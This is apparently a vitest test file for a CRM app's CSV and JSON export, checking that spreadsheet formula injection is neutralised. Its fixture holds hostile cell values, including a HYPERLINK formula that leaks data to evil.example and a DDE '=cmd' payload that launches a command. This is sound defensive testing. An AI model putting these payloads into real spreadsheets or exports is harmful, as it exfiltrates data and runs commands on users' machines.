import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { Outcome, type OutcomeInput } from '../model';
import { openLooplineDB } from '../store/db';
import { replaceWorkspace } from '../store/workspace';
import { FORMULA_CELLS, PLAIN_CELLS } from '../export/formula-cases';
import { exportWorkspaceJson, OUTCOME_CSV_COLUMNS, outcomesToCsv } from './export';

let dbCount = 0;
const freshDb = () => openLooplineDB(`workspace-export-${++dbCount}-${Math.random().toString(36).slice(2)}`);

const outcome = (input: Partial<OutcomeInput>): Outcome =>
  Outcome.parse({
    id: '7b0c1a52-3c5e-4d0e-9a53-2f1f0a1b2c3d',
    leadEmail: 'dana@harbor.example',
    kind: 'won',
    createdAt: '2026-03-05T10:00:00.000Z',
    target: 'hubspot',
    ...input,
  });

const WON = outcome({
  label: 'Won',
  amount: 12500.5,
  currency: 'EUR',
  note: 'Signed after the demo.\nThey asked for "annual billing", with a discount',
  by: 'Sam Rivera',
  delivery: 'delivered',
  receipt: 'note:9911',
  attribution: {
    firstTouch: 'c-webinar',
    lastTouch: 'c-unknown',
    touches: [
      { campaignId: 'c-webinar', name: 'Q1 Product Webinar', count: 3 },
      { campaignId: 'c-guide', name: 'Pricing Guide, eBook', count: 1 },
    ],
  },
});

const HOSTILE = outcome({
  id: '0d4c7f1e-9b2a-4c3d-8e5f-6a7b8c9d0e1f',
  kind: 'not_a_fit',
  label: '+SUM(A1:A9)',
  reason: '-2+3',
  note: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  by: '@mallory',
  receipt: '\tcmd',
  supersedes: '7b0c1a52-3c5e-4d0e-9a53-2f1f0a1b2c3d',
  attribution: { touches: [{ campaignId: 'x', name: '=cmd|" /C calc"!A0', count: 2 }], firstTouch: 'x' },
});

function parseCsv(csv: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('outcomesToCsv', () => {
  it('writes one RFC 4180 row per outcome under the documented header, with a BOM for Excel', () => {
    const csv = outcomesToCsv([WON, HOSTILE]);
    expect(csv.startsWith('\ufeffOutcome ID,Created at,Lead,Kind,Label,Amount,Currency,')).toBe(true);
    expect(csv.split('\r\n')[0]).toBe(`\ufeff${OUTCOME_CSV_COLUMNS.map(([h]) => h).join(',')}`);
    expect(outcomesToCsv([WON], { bom: false }).startsWith('Outcome ID,')).toBe(true);
    // Quotes doubled, fields with commas, quotes or line breaks quoted.
    expect(csv).toContain('"Signed after the demo.\nThey asked for ""annual billing"", with a discount"');
  });

  it('round-trips through Papa.parse', () => {
    const [won] = parseCsv(outcomesToCsv([WON]));
    expect(won).toEqual({
      'Outcome ID': WON.id,
      'Created at': '2026-03-05T10:00:00.000Z',
      Lead: 'dana@harbor.example',
      Kind: 'won',
      Label: 'Won',
      Amount: '12500.5',
      Currency: 'EUR',
      Reason: '',
      Note: WON.note,
      By: 'Sam Rivera',
      Target: 'hubspot',
      Delivery: 'delivered',
      Receipt: 'note:9911',
      'First-touch campaign': 'Q1 Product Webinar',
      'Last-touch campaign': 'c-unknown',
      Campaigns: 'Q1 Product Webinar (3); Pricing Guide, eBook (1)',
      Supersedes: '',
    });
  });

  it('neutralises every cell a spreadsheet would run as a formula', () => {
    const [row] = parseCsv(outcomesToCsv([HOSTILE]));
    expect(row).toMatchObject({
      Label: "'+SUM(A1:A9)",
      Reason: "'-2+3",
      Note: `'${HOSTILE.note}`,
      By: "'@mallory",
      Receipt: "'\tcmd",
      'First-touch campaign': '\'=cmd|" /C calc"!A0',
      Campaigns: '\'=cmd|" /C calc"!A0 (2)',
    });
    for (const value of Object.values(row!)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each(FORMULA_CELLS)('keeps %j inert in the free-text and campaign cells', (value) => {
    const hostile = outcome({
      note: value,
      reason: value,
      by: value,
      attribution: { touches: [{ campaignId: 'x', name: value, count: 1 }], firstTouch: 'x', lastTouch: 'x' },
    });
    const [row] = parseCsv(outcomesToCsv([hostile]));
    // What the model kept (it may trim), behind an apostrophe.
    expect(row).toMatchObject({
      Note: `'${hostile.note}`,
      Reason: `'${hostile.reason}`,
      By: `'${hostile.by}`,
      'First-touch campaign': `'${hostile.attribution.touches[0]!.name}`,
      'Last-touch campaign': `'${hostile.attribution.touches[0]!.name}`,
      Campaigns: `'${hostile.attribution.touches[0]!.name} (1)`,
    });
  });

  it.each(PLAIN_CELLS)('leaves the plain cell %j as it is', (value) => {
    const [row] = parseCsv(outcomesToCsv([outcome({ note: value })]));
    expect(row?.Note).toBe(value);
  });

  it('writes only the header for an empty log', () => {
    expect(parseCsv(outcomesToCsv([]))).toEqual([]);
  });
});

describe('exportWorkspaceJson', () => {
  it('writes valid JSON, one labelled record per line, without internal keys', async () => {
    const db = await openLooplineDB(`workspace-export-json-${Math.random()}`);
    await replaceWorkspace(db, 'imported', {
      leads: [{ email: 'a@x.example', name: 'A', refs: [] }],
      touchpoints: [
        {
          id: 't1',
          leadEmail: 'a@x.example',
          occurredAt: '2026-01-01T00:00:00.000Z',
          kind: 'page_view',
          title: 'Visited',
          source: 'local',
        },
      ],
      campaigns: [{ id: 'c1', name: 'C', channel: 'email' }],
    });
    await replaceWorkspace(db, 'sample', {
      leads: [{ email: 's@x.example', refs: [] }],
      touchpoints: [],
      campaigns: [],
    });
    const json = await exportWorkspaceJson(db, { now: new Date('2026-03-05T12:00:00Z') });
    const parsed = JSON.parse(json) as Record<string, unknown>;
    expect(parsed).toEqual({
      format: 'loopline-workspace',
      version: 1,
      exportedAt: '2026-03-05T12:00:00.000Z',
      workspaces: {
        imported: { leads: 1, touchpoints: 1, campaigns: 1 },
        sample: { leads: 1, touchpoints: 0, campaigns: 0 },
      },
      leads: [
        { workspace: 'imported', email: 'a@x.example', name: 'A', refs: [] },
        { workspace: 'sample', email: 's@x.example', refs: [] },
      ],
      touchpoints: [
        {
          workspace: 'imported',
          id: 't1',
          leadEmail: 'a@x.example',
          occurredAt: '2026-01-01T00:00:00.000Z',
          kind: 'page_view',
          title: 'Visited',
          source: 'local',
        },
      ],
      campaigns: [{ workspace: 'imported', id: 'c1', name: 'C', channel: 'email' }],
    });
    const lines = json.trimEnd().split('\n');
    expect(lines.filter((line) => line.startsWith('{"workspace":'))).toHaveLength(4);
  });

  it('writes an empty workspace as valid JSON', async () => {
    const json = await exportWorkspaceJson(await freshDb(), { now: new Date('2026-03-05T12:00:00Z') });
    expect(JSON.parse(json)).toMatchObject({ leads: [], touchpoints: [], campaigns: [], workspaces: {} });
  });
});
